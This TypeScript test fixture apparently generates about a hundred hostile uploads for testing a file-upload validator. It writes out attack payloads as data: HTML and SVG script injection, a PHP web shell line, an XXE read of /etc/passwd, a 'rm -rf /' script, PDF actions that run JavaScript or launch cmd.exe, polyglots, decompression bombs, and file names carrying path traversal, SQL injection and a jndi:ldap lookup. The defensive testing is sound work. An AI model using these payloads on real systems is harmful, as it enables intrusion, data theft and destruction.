// A hundred files that people with bad intentions send, each with the field that it is sent to.
import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { bomb, jpeg, pdf, png, withChunk, withSegment } from './samples.ts';

export interface Hostile {
  readonly what: string;
  readonly field: 'picture' | 'document';
  readonly name: string;
  readonly bytes: Buffer;
}

const HTML = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const PHP = '<?php system($_GET["c"]); ?>';
const ZIP = Buffer.from(`PK\x03\x04evil.html${'\0'.repeat(20)}PK\x05\x06${'\0'.repeat(18)}`, 'latin1');

/** Bytes as text, one character each. */
const raw = (text: string): Buffer => Buffer.from(text, 'latin1');

const NOT_PICTURES: Readonly<Record<string, Buffer>> = {
  html: raw(HTML),
  'html behind a mark': Buffer.from(`\ufeff${HTML}`),
  'html behind spaces': raw(`\n\n   ${HTML}`),
  'html behind a GIF header': raw(`GIF89a/*${HTML}*/=0`),
  'html behind a BMP header': raw(`BM${HTML}`),
  'html behind a PNG header': Buffer.concat([raw('\x89PNG\r\n\x1a\n'), raw(HTML)]),
  'html behind a JPEG header': Buffer.concat([raw('\xff\xd8\xff\xe0'), raw(HTML)]),
  'html behind a WebP header': raw(`RIFF\x20\0\0\0WEBP${HTML}`),
  svg: raw(SVG),
  'svg with a declaration': raw(`<?xml version="1.0"?>${SVG}`),
  'svg behind a mark': Buffer.from(`\ufeff${SVG}`),
  'svg that is packed': gzipSync(SVG),
  xml: raw('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  php: raw(PHP),
  javascript: raw('alert(1)//'),
  shell: raw('#!/bin/sh\nrm -rf /\n'),
  program: raw(`MZ${'\0'.repeat(60)}PE\0\0`),
  elf: raw(`\x7fELF\x02\x01\x01${'\0'.repeat(60)}`),
  wasm: raw('\0asm\x01\0\0\0'),
  zip: ZIP,
  flash: raw(`FWS\x09${'\0'.repeat(40)}`),
  gif: raw('GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'),
  'a script in a GIF': raw(`GIF89a=1;alert(1)//\x01\0;`),
  tiff: raw('II*\0\x08\0\0\0'),
  bmp: raw(`BM${'\0'.repeat(60)}`),
  icon: raw('\0\0\x01\0\x01\0\x10\x10\0\0\0\0\0\0'),
  'a class of Java': raw('\xca\xfe\xba\xbe\0\0\0\x34'),
  rtf: raw('{\\rtf1{\\object\\objocx}}'),
  mp4: raw('\0\0\0\x18ftypmp42\0\0\0\0mp42isom'),
  heic: raw('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
  text: raw('not a picture'),
  'one byte': raw('\x89'),
  nothing: Buffer.alloc(0),
};

async function pictures(): Promise<Omit<Hostile, 'field'>[]> {
  const [honest, photo] = [await png(), await jpeg()];
  const exif = await sharp(photo)
    .withExif({ IFD0: { ImageDescription: HTML, Copyright: PHP } })
    .jpeg()
    .toBuffer();
  const animated = withChunk(honest, 'acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]));
  const made: Readonly<Record<string, [string, Buffer]>> = {
    'EXIF with a script': ['exif.jpg', exif],
    'a comment with a script': ['comment.jpg', withSegment(photo, 0xfe, raw(HTML))],
    'XMP with a script': ['xmp.jpg', withSegment(photo, 0xe1, raw(`http://ns.adobe.com/xap/1.0/\0${SVG}`))],
    'a profile with a script': ['icc.jpg', withSegment(photo, 0xe2, raw(`ICC_PROFILE\0\x01\x01${HTML}`))],
    'a PNG text with a script': ['text.png', withChunk(honest, 'tEXt', raw(`Comment\0${HTML}`))],
    'a packed PNG text': ['ztxt.png', withChunk(honest, 'zTXt', Buffer.concat([raw('a\0\0'), deflateSync(HTML)]))],
    'a PNG text of 50 MB': [
      'bomb.png',
      withChunk(honest, 'zTXt', Buffer.concat([raw('a\0\0'), deflateSync(Buffer.alloc(50_000_000))])),
    ],
    'a chunk of its own': ['own.png', withChunk(honest, 'evIL', raw(PHP))],
    'an animation': ['animated.png', animated],
    'html behind the end': ['tail.png', Buffer.concat([honest, raw(HTML)])],
    'php behind the end': ['tail.jpg', Buffer.concat([photo, raw(PHP)])],
    'an archive behind the end': ['zip.png', Buffer.concat([honest, ZIP])],
    'an archive behind a photo': ['zip.jpg', Buffer.concat([photo, ZIP])],
    'a script behind a photo': ['js.jpeg', Buffer.concat([photo, raw('*/=1;alert(1)//')])],
    'a document behind the end': ['pdf.png', Buffer.concat([honest, pdf()])],
    'a bomb of 30000 × 30000': ['b1.png', bomb(honest, 30_000, 30_000)],
    'a bomb of 2 × 60000000': ['b2.png', bomb(honest, 2, 60_000_000)],
    'a bomb of 0 × 0': ['b3.png', bomb(honest, 0, 0)],
    'half a PNG': ['half.png', (await png(800, 800)).subarray(0, 300)],
    'half a photo': ['half.jpg', photo.subarray(0, photo.length / 2)],
    'only a header': ['head.png', honest.subarray(0, 33)],
    'a document as a picture': ['document.png', pdf()],
    'a photo as a PNG': ['photo.png', photo],
  };
  return Object.entries(made).map(([what, [name, bytes]]) => ({ what, name, bytes }));
}

function documents(): Omit<Hostile, 'field'>[] {
  const text = pdf().toString('latin1');
  const withObject = (object: string) => raw(text.replace('/Type /Catalog', `/Type /Catalog ${object}`));
  const packed = deflateSync('1 0 << /S /JavaScript /JS (app.alert(1)) >>');
  const stream = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  const made: Readonly<Record<string, Buffer>> = {
    'runs a script': withObject('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    'runs a script by another spelling': withObject('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
    'starts a program': withObject('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    'plays a film': withObject('/RichMedia << >>'),
    'hides its script': raw(text.replace('xref', `${stream}${packed.toString('latin1')}\nendstream\nendobj\nxref`)),
    'is a page too': raw(`${HTML}${text}`),
    'starts as a page': raw(text.replace('%PDF-1.4\n', `%PDF-1.4\n%${HTML}\n`)),
    'ends as a page': raw(`${text}${HTML}`),
    'is an archive too': Buffer.concat([raw(text), ZIP]),
    'is an archive with a comment': Buffer.concat([
      raw(text.replace('%%EOF\n', '')),
      raw(`PK\x03\x04evilPK\x05\x06${'\0'.repeat(16)}\x05\0%%EOF`),
    ]),
    'has no end': raw(text.replace('%%EOF', '')),
    'is only a header': raw('%PDF-1.7'),
    'is html with a header': raw(`%PDF-1.4 ${HTML} %%EOF`),
    'is PostScript': raw('%!PS-Adobe-3.0\n(evil) run'),
  };
  return Object.entries(made).map(([what, bytes]) => ({ what, name: 'document.pdf', bytes }));
}

const NAMES: readonly string[] = [
  '../../../../etc/passwd.png',
  '..\\..\\windows\\system32\\evil.png',
  '/etc/cron.d/evil.png',
  'C:\\evil.png',
  'evil.html.png',
  'evil.php.png',
  'evil.png.html',
  'evil.png.svg',
  'evil.png.php',
  'evil.svg',
  'evil.html',
  'evil.PNG',
  'evil.png ',
  'evil',
  '.png',
  '..png',
  '.htaccess',
  'gnp.\u202egpj.png',
  '<img src=x onerror=alert(1)>.png',
  '"; filename="evil.html.png',
  "'; drop table file; --.png",
  'a%2f..%2fb.png',
  'a%00.html.png',
  'a;b&c#d?e.png',
  `${'long'.repeat(200)}.png`,
  `${'🍦'.repeat(200)}.png`,
  'con.png',
  '\u0024{jndi:ldap://evil}.png',
  '{{constructor}}.png',
  'evil.png.',
];

export async function hostileFiles(): Promise<Hostile[]> {
  const honest = await png();
  const disguised = Object.entries(NOT_PICTURES).flatMap(([what, bytes]): Hostile[] => [
    { what, field: 'picture', name: 'holiday.png', bytes },
    ...(what.startsWith('html') ? [{ what: `${what} as PDF`, field: 'document', name: 'a.pdf', bytes } as const] : []),
  ]);
  return [
    ...disguised,
    ...(await pictures()).map((file): Hostile => ({ ...file, field: 'picture' })),
    ...documents().map((file): Hostile => ({ ...file, field: 'document' })),
    ...NAMES.map((name): Hostile => ({ what: `named ${name.slice(0, 40)}`, field: 'picture', name, bytes: honest })),
  ];
}
